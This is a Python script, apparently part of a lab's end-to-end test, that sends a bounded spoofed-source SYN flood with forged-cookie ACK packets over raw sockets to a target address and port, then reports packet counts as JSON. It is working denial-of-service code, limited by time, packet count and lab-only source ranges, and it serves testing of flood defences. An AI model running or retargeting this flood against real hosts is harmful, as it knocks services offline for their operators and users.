#!/usr/bin/env python3
"""Bounded spoofed-source SYN flood for the lab's attacker namespace (flood e2e test).

Usage: syn-flood.py <vip> <port> <seconds> <max_packets>
Sources are drawn ONLY from 198.18.0.100-198.18.0.199 (the lab's outside segment, no
real host there), or for an IPv6 <vip> from 2001:db8:18::100-2001:db8:18::199 (the same
numbers as text; no real host there either); every 4th packet is a bare ACK with a random
acknowledgement number (a forged cookie). Stops by itself after <seconds> (at most 30) or
<max_packets>, whichever first, and prints one JSON line: {"sent", "syns", "acks",
"seconds", "pps"}. Raw socket (IPPROTO_RAW, either family): run as root inside the
namespace only.
"""
import json
import random
import socket
import struct
import sys
import time

from flood_common import checksum, ipv6_header, ipv6_pseudo_header, is_ipv6, raw_socket

SPOOF_NET = "198.18.0."
SPOOF_NET_V6 = "2001:db8:18::"
SPOOF_FIRST, SPOOF_LAST = 100, 199
POOL = 4096  # distinct packets, built once and sent in a loop


def packet(src: str, dst: str, sport: int, dport: int, flags: int, seq: int, ack: int) -> bytes:
    src_b, dst_b = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = src_b + dst_b + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, src_b, dst_b)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def packet6(src: str, dst: str, sport: int, dport: int, flags: int, seq: int, ack: int) -> bytes:
    src_b, dst_b = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = ipv6_pseudo_header(src_b, dst_b, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return ipv6_header(src_b, dst_b, socket.IPPROTO_TCP, len(tcp)) + tcp


def main() -> None:
    vip, port, seconds, max_packets = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    seconds = min(seconds, 30.0)  # never an open-ended flood
    rng = random.Random(4)
    ipv6 = is_ipv6(vip)
    build, spoof_net = (packet6, SPOOF_NET_V6) if ipv6 else (packet, SPOOF_NET)
    pool = []
    for i in range(POOL):
        src = spoof_net + str(rng.randint(SPOOF_FIRST, SPOOF_LAST))
        is_ack = i % 4 == 3
        pool.append((is_ack, build(src, vip, rng.randint(1024, 65535), port, 0x10 if is_ack else 0x02,
                                   rng.getrandbits(32), rng.getrandbits(32) if is_ack else 0)))
    sock = raw_socket(ipv6)
    sent = syns = acks = 0
    start = time.monotonic()
    deadline = start + seconds
    tries = 0
    while sent < max_packets:
        tries += 1
        if tries % 256 == 0 and time.monotonic() >= deadline:
            break
        is_ack, data = pool[sent % POOL]
        try:
            sock.sendto(data, (vip, 0))
        except OSError:
            continue  # send buffer full: try again (still bounded by the deadline check)
        sent += 1
        acks += is_ack
        syns += not is_ack
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "syns": syns, "acks": acks, "seconds": round(elapsed, 2), "pps": round(sent / elapsed)}))


main()
